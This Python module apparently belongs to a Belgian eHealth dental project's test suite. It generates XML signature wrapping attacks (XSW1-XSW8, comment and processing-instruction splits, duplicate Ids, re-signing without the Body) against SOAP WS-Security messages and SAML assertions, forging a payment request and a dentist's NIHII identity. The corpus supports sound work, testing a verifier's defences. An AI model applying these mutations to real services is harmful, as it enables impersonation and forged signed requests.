"""A corpus of XML signature wrapping attacks, generated from valid signed messages (issue 15.4, 15.8).

Every attack is a pure function ``bytes -> bytes`` that mutates a *valid* signed message. The SOAP family
moves the signed Body or Timestamp to the classic XSW positions (Somorovsky et al., "On Breaking SAML",
XSW1-XSW8, transposed to the WS-Security signature) and puts a forged copy where the reader looks, with
and without the signed copy's Id. The SAML family does the same to the STS assertion's enveloped
signature, and adds position and comment tricks that leave the STS signature valid.
"""

from __future__ import annotations

import base64
import copy
import re
from collections.abc import Callable
from datetime import datetime, timedelta, timezone

import attrs
from lxml import etree
from mycarenet_dental.ehealth import saml, xmldsig
from mycarenet_dental.ehealth.wssecurity import NS_SOAP, NS_WSSE, NS_WSU
from mycarenet_dental.timeutil import utc_ms

S, DS = saml.NS_SAML, xmldsig.NS_DS
BODY, HEADER = f"{{{NS_SOAP}}}Body", f"{{{NS_SOAP}}}Header"
SECURITY, TIMESTAMP = f"{{{NS_WSSE}}}Security", f"{{{NS_WSU}}}Timestamp"
WSU_ID = f"{{{NS_WSU}}}Id"
SIGNATURE, OBJECT, KEYINFO = (f"{{{DS}}}{n}" for n in ("Signature", "Object", "KeyInfo"))
ASSERTION = f"{{{S}}}Assertion"
FORGED_NIHII = "39999999001"
Mutation = Callable[[bytes], bytes]


@attrs.frozen
class Attack:
    name: str
    family: str  # "soap" (Body/Timestamp signature) or "saml" (assertion signature)
    mutate: Mutation
    needs_container: bool = False  # puts a sibling next to the assertion (not for a standalone file)


def _parse(data: bytes) -> etree._Element:
    return etree.fromstring(data, etree.XMLParser(remove_blank_text=False, resolve_entities=False))


def _out(root: etree._Element) -> bytes:
    data = etree.tostring(root, encoding="UTF-8", xml_declaration=False)
    return re.sub(rb"<!--MOVED:([A-Za-z0-9+/=]+)-->", lambda m: base64.b64decode(m.group(1)), data)


# --- SOAP family: the Body / Timestamp signed by wsse:Security -------------------------------------------


def _security(env: etree._Element) -> etree._Element:
    return env.find(f"{HEADER}/{SECURITY}")


def _target(env: etree._Element, part: str) -> etree._Element:
    return env.find(BODY) if part == "Body" else _security(env).find(TIMESTAMP)


def _forge(original: etree._Element, part: str, keep_id: bool) -> etree._Element:
    forged = copy.deepcopy(original)
    if part == "Body":
        for child in forged:
            if isinstance(child.tag, str):
                forged.remove(child)
        evil = etree.SubElement(forged, "{urn:test}Ping")
        evil.text = "evil: pay 1000 EUR to the attacker"
        if len(original) and isinstance(original[0].tag, str) and original[0].tag != "{urn:test}Ping":
            evil.tag = original[0].tag  # keep the operation the service expects (STS: RequestSecurityToken)
            evil.text = None
            for sub in copy.deepcopy(original[0]):
                evil.append(sub)
            evil.set("Context", "uuid-attacker")
    else:
        now = datetime.now(timezone.utc)
        forged.find(f"{{{NS_WSU}}}Created").text = utc_ms(now)
        forged.find(f"{{{NS_WSU}}}Expires").text = utc_ms(now + timedelta(hours=1))
    if not keep_id:
        forged.attrib.pop(WSU_ID, None)
    return forged


def _moved(el: etree._Element) -> etree._Element:
    """A stand-in for ``el`` that :func:`_out` replaces by ``el``'s exact bytes, as an attacker moves it.

    Moving the element in the tree would let lxml re-prefix it to a declaration of its new ancestors,
    which changes its canonical form and breaks its digest: not the attack we want to model.
    """
    data = etree.tostring(el, with_tail=False)
    return etree.Comment("MOVED:" + base64.b64encode(data).decode())


def _wrapper(env: etree._Element) -> etree._Element:
    w = etree.Element("{urn:attacker}Wrapper", nsmap={"w": "urn:attacker"})
    w.set(f"{{{NS_SOAP}}}mustUnderstand", "0")
    return w


def _soap_xsw(number: int, part: str, keep_id: bool) -> Mutation:
    def mutate(data: bytes) -> bytes:
        env = _parse(data)
        original = _target(env, part)
        parent = original.getparent()
        forged = _forge(original, part, keep_id)
        sig = _security(env).find(SIGNATURE)
        if number == 3:  # XSW3: forged copy placed before the signed one, both in place
            parent.insert(parent.index(original), forged)
            return _out(env)
        parent.replace(original, forged)
        original = _moved(original)
        if number == 1:  # XSW1: the signed element inside the ds:Signature
            sig.append(original)
        elif number == 2:  # XSW2: the signed element detached in wsse:Security, before the Signature
            sig.addprevious(original)
        elif number == 4:  # XSW4: the signed element inside the forged one
            forged.append(original)
        elif number == 5:  # XSW5: the signed element appended at the end of the Envelope
            env.append(original)
        elif number == 6:  # XSW6: the signed element deep inside the Signature (KeyInfo)
            sig.find(KEYINFO).append(original)
        elif number == 7:  # XSW7: the signed element in a wrapper header (McIntosh & Austel)
            wrapper = _wrapper(env)
            wrapper.append(original)
            env.find(HEADER).append(wrapper)
        elif number == 8:  # XSW8: the signed element inside a ds:Object of the Signature
            obj = etree.SubElement(sig, OBJECT)
            obj.append(original)
        return _out(env)

    return mutate


def _resign_without_body(key_of: Callable[[], object]) -> Mutation:
    """A signature over the Timestamp (and token) only, with a forged Body (the signer's real key)."""

    def mutate(data: bytes) -> bytes:
        env = _parse(data)
        body = env.find(BODY)
        body_id = body.get(WSU_ID)
        sig = _security(env).find(SIGNATURE)
        info = sig.find(f"{{{DS}}}SignedInfo")
        for ref in info.findall(f"{{{DS}}}Reference"):
            if ref.get("URI") == f"#{body_id}":
                info.remove(ref)
        method = info.find(f"{{{DS}}}SignatureMethod").get("Algorithm")
        value = xmldsig.sign_value(key_of(), xmldsig.c14n(info), method)
        sig.find(f"{{{DS}}}SignatureValue").text = xmldsig.b64(value)
        env.replace(body, _forge(body, "Body", keep_id=True))
        return _out(env)

    return mutate


def _unresolvable_key(data: bytes) -> bytes:
    env = _parse(data)
    str_el = _security(env).find(f"{SIGNATURE}/{KEYINFO}/{{{NS_WSSE}}}SecurityTokenReference")
    for el in str_el:
        if el.tag == f"{{{NS_WSSE}}}Reference":
            el.set("URI", "#X509-not-in-this-message")
        elif el.tag == f"{{{NS_WSSE}}}KeyIdentifier":
            el.text = "_not-in-this-message"
    return _out(env)


def _no_keyinfo(data: bytes) -> bytes:
    env = _parse(data)
    sig = _security(env).find(SIGNATURE)
    sig.remove(sig.find(KEYINFO))
    return _out(env)


def _second_security(data: bytes) -> bytes:
    env = _parse(data)
    sec = _security(env)
    evil = copy.deepcopy(sec)
    for el in evil.iter():
        for name in [n for n in el.keys() if n == WSU_ID or n == "AssertionID"]:
            el.set(name, el.get(name) + "-2")
    sec.addnext(evil)
    return _out(env)


def _duplicate_id_elsewhere(data: bytes) -> bytes:
    env = _parse(data)
    wrapper = _wrapper(env)
    wrapper.set(WSU_ID, env.find(BODY).get(WSU_ID))
    env.find(HEADER).append(wrapper)
    return _out(env)


def soap_attacks(key_of: Callable[[], object]) -> list[Attack]:
    attacks = [
        Attack(f"xsw{n}-{part.lower()}-{'same-id' if keep else 'no-id'}", "soap", _soap_xsw(n, part, keep))
        for n in range(1, 9) for part in ("Body", "Timestamp") for keep in (True, False)
    ]
    attacks += [
        Attack("timestamp-only-signature-forged-body", "soap", _resign_without_body(key_of)),
        Attack("unresolvable-key", "soap", _unresolvable_key),
        Attack("no-keyinfo", "soap", _no_keyinfo),
        Attack("second-security-header", "soap", _second_security),
        Attack("duplicate-id-elsewhere", "soap", _duplicate_id_elsewhere),
    ]
    return attacks


# --- SAML family: the STS assertion's enveloped signature ---------------------------------------------------


def _the_assertion(root: etree._Element) -> etree._Element:
    if root.tag == ASSERTION:
        return root
    return next(a for a in root.iter(ASSERTION) if a.find(SIGNATURE) is not None)


def _nihii_value(assertion: etree._Element) -> etree._Element:
    for attr in assertion.iter(f"{{{S}}}Attribute"):
        if attr.get("AttributeName") == saml.ATTR_DENTIST_NIHII:
            return attr.find(f"{{{S}}}AttributeValue")
    raise AssertionError("no NIHII attribute")


def forged_assertion(original: etree._Element, *, new_id: bool, keep_signature: bool) -> etree._Element:
    forged = copy.deepcopy(original)
    _nihii_value(forged).text = FORGED_NIHII
    for nid in forged.iter(f"{{{S}}}NameIdentifier"):
        nid.text = "CN=attacker"
    if new_id:
        forged.set("AssertionID", "_forged" + original.get("AssertionID"))
    if not keep_signature:
        forged.remove(forged.find(SIGNATURE))
    return forged


def _unsigned(original: etree._Element) -> etree._Element:
    el = copy.deepcopy(original)
    el.remove(el.find(SIGNATURE))
    return el


def _saml_xsw(number: int) -> Mutation:
    def mutate(data: bytes) -> bytes:
        root = _parse(data)
        original = _the_assertion(root)
        parent = original.getparent()
        if number == 3:  # forged (same Id, unsigned) inserted before the signed one
            parent.insert(parent.index(original), forged_assertion(original, new_id=False, keep_signature=False))
            return _out(root)
        if number == 5:  # forged with the Signature copy in place; the original, unsigned, appended after
            parent.replace(original, forged_assertion(original, new_id=False, keep_signature=True))
            parent.append(_unsigned(original))
            return _out(root)
        if number == 7:  # forged in place; the signed one inside an Extensions-like wrapper next to it
            forged = forged_assertion(original, new_id=False, keep_signature=False)
            parent.replace(original, forged)
            wrapper = etree.Element("{urn:attacker}Extensions")
            wrapper.append(_moved(original))
            forged.addnext(wrapper)
            return _out(root)
        index = parent.index(original) if parent is not None else None
        if parent is not None:
            parent.remove(original)
        moved = _moved(original)
        if number in (1, 2):  # forged with a new Id, carrying the Signature copy
            forged = forged_assertion(original, new_id=True, keep_signature=True)
            if number == 1:  # XSW1: the signed assertion inside that Signature
                forged.find(SIGNATURE).append(moved)
            else:  # XSW2: the signed assertion detached just before that Signature
                forged.find(SIGNATURE).addprevious(moved)
        elif number == 4:  # the signed assertion inside the forged one (same Id)
            forged = forged_assertion(original, new_id=False, keep_signature=False)
            forged.append(moved)
        elif number == 6:  # the original, unsigned, inside the forged one's Signature
            forged = forged_assertion(original, new_id=False, keep_signature=True)
            forged.find(SIGNATURE).append(_unsigned(original))
        else:  # 8: the original, unsigned, inside a ds:Object of the forged one's Signature
            forged = forged_assertion(original, new_id=False, keep_signature=True)
            etree.SubElement(forged.find(SIGNATURE), OBJECT).append(_unsigned(original))
        if parent is None:
            return _out(forged)
        parent.insert(index, forged)
        return _out(root)

    return mutate


def _signature_first_with_object(data: bytes) -> bytes:
    """The genuine assertion, its Signature moved first and carrying forged statements in a ds:Object.

    The enveloped-signature transform removes the whole Signature, so digest and SignatureValue still
    verify: only a reader that takes statements from their place (not the first match in the tree) is safe.
    """
    root = _parse(data)
    assertion = _the_assertion(root)
    sig = assertion.find(SIGNATURE)
    assertion.remove(sig)
    assertion.insert(0, sig)
    obj = etree.SubElement(sig, OBJECT)
    forged = forged_assertion(assertion, new_id=True, keep_signature=True)
    forged.remove(forged.find(SIGNATURE))
    for child in forged:
        if isinstance(child.tag, str) and child.tag != f"{{{S}}}Conditions":
            obj.append(child)
    return _out(root)


def comment_in(text_of: Callable[[etree._Element], etree._Element], split: int, *, pi: bool = False) -> Mutation:
    """Split a signed text node with a comment (or a PI) after ``split`` characters (issue 15.8)."""

    def mutate(data: bytes) -> bytes:
        root = _parse(data)
        for el in text_of(_the_assertion(root)):
            text = el.text or ""
            el.text = text[:split]
            node = etree.ProcessingInstruction("x", "y") if pi else etree.Comment(" ")
            node.tail = text[split:]
            el.insert(0, node)
        return _out(root)

    return mutate


def _name_ids(assertion: etree._Element) -> list[etree._Element]:
    return list(assertion.iter(f"{{{S}}}NameIdentifier"))


def _nihii(assertion: etree._Element) -> list[etree._Element]:
    return [_nihii_value(assertion)]


def saml_attacks() -> list[Attack]:
    attacks = [Attack(f"saml-xsw{n}", "saml", _saml_xsw(n), needs_container=n in (3, 5, 7)) for n in range(1, 9)]
    attacks += [
        Attack("saml-signature-first-with-object", "saml", _signature_first_with_object),
        Attack("saml-comment-in-nameidentifier", "saml", comment_in(_name_ids, 8)),
        Attack("saml-comment-in-nihii", "saml", comment_in(_nihii, 4)),
        Attack("saml-pi-in-nihii", "saml", comment_in(_nihii, 4, pi=True)),
    ]
    return attacks
